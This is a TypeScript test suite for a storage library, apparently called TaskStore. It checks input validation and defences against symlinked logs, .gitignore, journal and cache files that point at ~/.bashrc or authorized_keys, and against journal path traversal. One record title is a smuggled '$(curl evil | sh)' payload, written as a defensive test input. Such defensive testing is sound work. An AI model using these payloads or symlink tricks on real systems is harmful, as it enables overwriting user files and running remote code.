  it('a lockTimeoutMs that is not a non-negative integer is a ValidationError before anything happens (NaN or a string waited forever behind another git-sync)', async () => {
    const { store } = openStore();
    for (const lockTimeoutMs of [NaN, '5000', -1, 1.5, Infinity]) {
      await expect(store.gitSync({ lockTimeoutMs: lockTimeoutMs as never })).rejects.toMatchObject({ code: 'VALIDATION', field: 'lockTimeoutMs' });
    }
    await expect(store.gitSync({ lockTimeoutMs: 0 })).rejects.toMatchObject({ code: 'IO' });
    store.close();
  });
});

describe('Store.open lockTimeoutMs', () => {
  it('over 2^31 - 1 ms (SQLite\'s limit) is the TypeError of an option out of range, and creates nothing (it was an IoError "cannot open the cache", after the store files were made)', () => {
    const dir = join(tempDir(), '.taskstore');
    for (const lockTimeoutMs of [2 ** 31, 2 ** 40, Number.MAX_SAFE_INTEGER]) {
      const err = thrown(() => Store.open(dir, { durability: 'none', lockTimeoutMs })) as unknown;
      expect(err, String(err)).toBeInstanceOf(TypeError);
      expect(err).toMatchObject({ code: 'VALIDATION', field: 'lockTimeoutMs' });
      expect(existsSync(dir)).toBe(false);
    }
    Store.open(dir, { durability: 'none', lockTimeoutMs: 2 ** 31 - 1 }).close();
  });
});

describe('Store.open(dir)', () => {
  it("an empty path (which resolves to the current directory) or one with NUL is a TypeError; nothing is created", () => {
    const cwd = tempDir();
    const before = process.cwd();
    process.chdir(cwd);
    try {
      for (const dir of ['', '  ', 'a\0b']) {
        const err = thrown(() => Store.open(dir, { durability: 'none' })) as unknown;
        expect(err, String(err)).toBeInstanceOf(TypeError);
        expect(err).toMatchObject({ code: 'VALIDATION', field: 'dir' });
      }
      expect(readdirSync(cwd)).toEqual([]);
      Store.open('.', { durability: 'none' }).close(); // the current directory, named on purpose, still works
    } finally {
      process.chdir(before);
    }
  });
});

describe('queries SQLite would refuse', () => {
  it('an in list of any length works, a long one answering as a short one does', () => {
    const { store } = openStore();
    const notes = store.collection({ name: 'notes', indexes: ['k'] });
    const values: unknown[] = [0, 1, 'two', true, false, 2 ** 60, -(2 ** 60), 3.5, '', null];
    notes.createMany(values.map((k, i) => ({ id: `n${i}`, k })));
    notes.create({ id: 'missing' });
    const ids = (inList: unknown[]): string[] => notes.list({ where: { k: { in: inList as never } }, orderBy: 'id' }).map((r) => r.id);
    const padding = (n: number): string[] => Array.from({ length: n }, (_, i) => `pad-${i}`);
    for (const probe of [[1, 'two'], [true, 2 ** 60, 3.5], [null, ''], [-(2 ** 60), 0, false]]) {
      const short = ids(probe);
      expect(short.length).toBeGreaterThan(0);
      for (const n of [200, 32_767, 250_000]) expect(ids([...padding(n), ...probe]), `${n} + ${JSON.stringify(probe)}`).toEqual(short);
    }
    expect(notes.count({ where: { id: { in: Array.from({ length: 40_000 }, (_, i) => `n${i}`) } } })).toBe(values.length);
    store.close();
  });

  it('too many conditions or a LIKE pattern over SQLite\'s limit is a ValidationError, not a raw SqliteError', () => {
    const { store } = openStore();
    const notes = store.collection({ name: 'notes' });
    notes.create({ f0: 0, t: 'abc' });
    const where = (n: number): Record<string, number> => Object.fromEntries(Array.from({ length: n }, (_, i) => [`f${i}`, 0]));
    expect(notes.count({ where: { f0: 0 } })).toBe(1);
    expect(notes.count({ where: where(256) })).toBe(0);
    for (const query of [{ where: where(257) }, { where: where(3000) }, { where: { ...where(255), g: { gte: 0, lte: 0 } } }]) {
      const err = thrown(() => notes.list(query));
      expect(err, String(err)).toBeInstanceOf(ValidationError);
      expect(err).toMatchObject({ field: 'where' });
      expect(err.message).toMatch(/at most 256/);
    }
    expect(notes.count({ where: { t: { like: `%${'b'.repeat(100)}%` } } })).toBe(0);
    expect(notes.count({ where: { t: { like: '%'.repeat(50_000) } } })).toBe(1);
    for (const like of ['%'.repeat(50_001), 'é'.repeat(25_001)]) {
      const err = thrown(() => notes.count({ where: { t: { like } } }));
      expect(err, String(err)).toBeInstanceOf(ValidationError);
      expect(err).toMatchObject({ field: 't' });
    }
    store.close();
  });
});

describe('store methods inside a transaction', () => {
  it('close() is a TypeError there (it made the commit fail after the lines were appended: an error for writes that were kept)', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    const err = thrown(() => store.transaction(() => {
      notes.create({ id: 'a' });
      store.close();
    })) as unknown;
    expect(err, String(err)).toBeInstanceOf(TypeError);
    expect((err as Error).message).toMatch(/close\(\) cannot be called inside a transaction/);
    // The transaction was rolled back, as for any error its function throws; the store is still open.
    expect(logText(dir, 'notes')).toBe('');
    expect(notes.get('a')).toBeUndefined();
    notes.create({ id: 'b' });
    store.close();
    const reopened = Store.open(dir, { durability: 'none', logger: quietLogger() });
    expect(reopened.collection({ name: 'notes' }).list().map((r) => r.id)).toEqual(['b']);
    reopened.close();
  });

  it('check() is a TypeError there, instead of reporting every pending write as cache drift', () => {
    const { store } = openStore();
    const notes = store.collection({ name: 'notes' });
    const err = thrown(() => store.transaction(() => {
      notes.create({ id: 'a' });
      return store.check();
    })) as unknown;
    expect(err, String(err)).toBeInstanceOf(TypeError);
    expect((err as Error).message).toMatch(/check\(\) cannot be called inside a transaction/);
    expect(store.check()).toEqual({ ok: true, problems: [] });
    store.close();
  });
});

describe('a log that is a symbolic link', () => {
  it('is never followed (a link committed to git could name ~/.bashrc): opening the store names the link, and nothing is written through it', () => {
    const { store, dir } = openStore();
    store.close();
    const outside = tempDir();
    const bashrc = join(outside, 'bashrc');
    writeFileSync(bashrc, 'export PS1="$ "'); // no final newline: a reader ending the "torn" line would write one
    symlinkSync(bashrc, join(dir, 'notes.jsonl'));
    const err = thrown(() => Store.open(dir, { durability: 'none', logger: quietLogger() }));
    expect(err).toMatchObject({ code: 'IO', data: { errno: 'ELOOP' } });
    expect(err.message).toMatch(/notes\.jsonl: it is a symbolic link, and TaskStore does not follow links for its logs/);
    expect(err.hint).toMatch(/replace the link with the file/);
    expect(readFileSync(bashrc, 'utf8')).toBe('export PS1="$ "');

    // A dangling link (its target does not exist yet): a write would have created the target.
    rmSync(join(dir, 'notes.jsonl'));
    const target = join(outside, 'authorized_keys');
    symlinkSync(target, join(dir, 'other.jsonl'));
    const reopened = Store.open(dir, { durability: 'none', logger: quietLogger() });
    const writeErr = thrown(() => reopened.collection({ name: 'other' }).create({ title: '$(curl evil | sh)' }));
    expect(writeErr).toMatchObject({ code: 'IO', data: { errno: 'ELOOP' } });
    expect(existsSync(target)).toBe(false);
    reopened.collection({ name: 'notes' }).create({ id: 'fine' }); // other logs work
    reopened.close();
  });
});

describe('a .gitignore that is a symbolic link', () => {
  it('is never appended to (git checks links out: .gitignore -> ~/.bashrc); opening warns and goes on', () => {
    const { store, dir } = openStore();
    store.close();
    const bashrc = join(tempDir(), 'bashrc');
    writeFileSync(bashrc, 'export PS1="$ "\n');
    rmSync(join(dir, '.gitignore'));
    symlinkSync(bashrc, join(dir, '.gitignore'));
    const warnings: string[] = [];
    const reopened = Store.open(dir, { durability: 'none', logger: { ...quietLogger(), warn: (m: string) => void warnings.push(m) } });
    expect(readFileSync(bashrc, 'utf8')).toBe('export PS1="$ "\n');
    expect(warnings.join('\n')).toMatch(/\.gitignore is a symbolic link; TaskStore does not write through links/);
    reopened.collection({ name: 'notes' }).create({ id: 'fine' });
    reopened.close();
  });
});

describe('a transaction journal git checked out (local state, but a branch can commit it)', () => {
  it('that is a symbolic link is never truncated through: opening names the link, and the file it names keeps every byte', () => {
    const { store, dir } = openStore();
    store.collection({ name: 'notes' }).create({ id: 'n1' });
    store.close();
    const bashrc = join(tempDir(), 'bashrc');
    writeFileSync(bashrc, 'export PS1="$ "\n');
    rmSync(join(dir, 'taskstore.journal'));
    symlinkSync(bashrc, join(dir, 'taskstore.journal'));
    const err = thrown(() => Store.open(dir, { durability: 'none', logger: quietLogger() }));
    expect(err).toMatchObject({ code: 'IO', data: { errno: 'ELOOP', path: join(dir, 'taskstore.journal') } });
    expect(readFileSync(bashrc, 'utf8')).toBe('export PS1="$ "\n');
  });

  it('whose entries name a file outside the store (../victim) cuts nothing: only the store\'s own logs are ever rolled back', () => {
    const { store, dir } = openStore();
    store.collection({ name: 'notes' }).create({ id: 'n1' });
    store.close();
    const victim = join(dir, '..', 'victim.txt');
    writeFileSync(victim, 'precious\n');
    // A well-formed journal (its checksum right) claiming an interrupted append to ../victim.txt at offset 0.
    const body = JSON.stringify({ v: 1, entries: [{ file: '../victim.txt', offset: 0, length: 100, sha1: '0'.repeat(40), prefix: createHash('sha1').update('0').digest('hex') }] });
    writeFileSync(join(dir, 'taskstore.journal'), `${body}\n${createHash('sha1').update(body).digest('hex')}\n`);
    const reopened = Store.open(dir, { durability: 'none', logger: quietLogger() });
    expect(readFileSync(victim, 'utf8')).toBe('precious\n');
    expect(existsSync(`${victim}.torn`)).toBe(false);
    expect(reopened.collection({ name: 'notes' }).get('n1')).toBeDefined();
    reopened.close();
  });
});

describe('a cache database git checked out as a symbolic link', () => {
  it('is never opened through: SQLite would switch the database it names to WAL and write the cache into it', () => {
    const { store, dir } = openStore();
    store.collection({ name: 'notes' }).create({ id: 'n1' });
    store.close();
    const victim = join(tempDir(), 'places.sqlite');
    const db = new Database(victim);
    db.exec("CREATE TABLE bookmarks (url TEXT); INSERT INTO bookmarks VALUES ('https://example.com')");
    db.close();
    const before = readFileSync(victim);
    for (const suffix of ['', '-wal', '-shm']) rmSync(join(dir, `taskstore.db${suffix}`), { force: true });
    symlinkSync(victim, join(dir, 'taskstore.db'));
    const err = thrown(() => Store.open(dir, { durability: 'none', logger: quietLogger() }));
    expect(err).toMatchObject({ code: 'IO', data: { errno: 'ELOOP', path: join(dir, 'taskstore.db') } });
    expect(readFileSync(victim).equals(before)).toBe(true);
    expect(existsSync(`${victim}-wal`)).toBe(false);
  });
});

describe('ids another tool wrote (any non-empty string a log line can hold)', () => {
  // A Rust TaskStore repo_path id far over 512 characters, ids with C0 and C1 controls, a
  // direction override: each a valid log line, each listed.
  const foreign = ['/home/dev/' + 'deep/'.repeat(130) + 'repo', 'esc\u001b[31m', 'nel\u0085x', 'tab\tand\nnewline', 'rlo\u202etxt'];

  function storeWithForeignIds(): { dir: string } {
    const { store, dir } = openStore();
    store.close();
    writeFileSync(join(dir, 'notes.jsonl'), foreign.map((id, i) => JSON.stringify({ id, updated_at: 10 + i, title: `t${i}` })).join('\n') + '\n');
    return { dir };
  }

  it('every listed record can be read, patched, updated, deleted and its history read', () => {
    const { dir } = storeWithForeignIds();
    const store = Store.open(dir, { durability: 'none', logger: quietLogger() });
    const notes = store.collection<{ title: string }>({ name: 'notes' });
    expect(notes.list().map((r) => r.id)).toEqual(foreign);
    for (const id of foreign) {
      expect(notes.get(id)).toMatchObject({ id, title: expect.stringMatching(/^t\d$/) });
      expect(notes.patch(id, { title: 'patched' })).toMatchObject({ id, title: 'patched' });
      expect(notes.update(id, { title: 'replaced' })).toMatchObject({ id, title: 'replaced' });
      expect(notes.history(id).map((v) => v.title)).toEqual([expect.stringMatching(/^t\d$/), 'patched', 'replaced']);
      notes.delete(id);
      expect(notes.get(id)).toBeUndefined();
      expect(notes.history(id).at(-1)).toMatchObject({ id, deleted: true });
    }
    expect(notes.list()).toEqual([]);
    store.close();
    // Rebuilt from the log, the writes read back the same.
    const again = Store.open(dir, { durability: 'none', logger: quietLogger() });
    expect(again.collection({ name: 'notes' }).history(foreign[0]!)).toHaveLength(4);
    expect(again.check().problems).toEqual([]);
    again.close();
  });

  it('a Rust repository-state line keyed by a long path is reachable through getRepoState and setRepoState', () => {
    const { store, dir } = openStore();
    store.close();
    const path = '/home/dev/' + 'nested/'.repeat(100) + 'repo';
    writeFileSync(join(dir, 'repo_state.jsonl'), `${JSON.stringify({ repo_path: path, last_synced_commit: 'abc', created_at: 5 })}\n`);
    const reopened = Store.open(dir, { durability: 'none', logger: quietLogger() });
    expect(reopened.getRepoState(path)).toMatchObject({ id: path, last_synced_commit: 'abc' });
    expect(reopened.setRepoState(path, 'def')).toMatchObject({ id: path, last_synced_commit: 'def' });
    expect(reopened.getRepoState(path)!.last_synced_commit).toBe('def');
    reopened.close();
  });

  it('lookups still refuse what no log line can hold: a non-string (TypeError) and the empty string (ValidationError)', () => {
    const { store } = openStore();
    const notes = store.collection({ name: 'notes' });
    for (const call of [(id: unknown) => notes.get(id as string), (id: unknown) => notes.history(id as string), (id: unknown) => notes.delete(id as string)]) {
      for (const bad of [42, null, undefined, ['a']]) expect(thrown(() => call(bad))).toBeInstanceOf(TypeError);
      expect(thrown(() => call(''))).toBeInstanceOf(ValidationError);
    }
    store.close();
  });
});

describe('the id of a new record', () => {
  it('has no control character in the sense the docs give (C0, DEL, C1, direction marks) and at most 512 characters; a refused create writes nothing', () => {
    const { store, dir } = openStore();
    const notes = store.collection({ name: 'notes' });
    for (const id of ['a\u0000b', 'a\u001bb', 'a\u007fb', 'nel\u0085', 'csi\u009b2J', 'rlo\u202e', 'lrm\u200e', 'iso\u2066', 'alm\u061c', 'x'.repeat(513)]) {
      const err = thrown(() => notes.create({ id, title: 'x' }));
      expect(err, JSON.stringify(id)).toBeInstanceOf(ValidationError);
      expect(err.message).toMatch(/is malformed: a new id has at most 512 characters and no control characters/);
      // The message never carries the raw character to a terminal.
      expect(err.message).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u061c\u200e\u202e\u2066]/);
    }
    expect(logText(dir, 'notes')).toBe('');
    // Half a surrogate pair is no character: the cache (UTF-8) would hold U+FFFD and check report drift.
    for (const id of ['lone\ud800', 'x\udc00y', '😀'.slice(0, 1)]) {
      const err = thrown(() => notes.create({ id, title: 'x' }));
      expect(err, JSON.stringify(id)).toBeInstanceOf(ValidationError);
      expect(err.message).toMatch(/half of a UTF-16 surrogate pair/);
    }
    expect(logText(dir, 'notes')).toBe('');
    expect(store.check().problems).toEqual([]);
    // Printable ids of every script, and exactly 512 characters, are fine.
    for (const id of ['Ünïcødé-日本-😀', 'x'.repeat(512), 'with space']) expect(notes.create({ id })).toBe(id);
    store.close();
  });
});
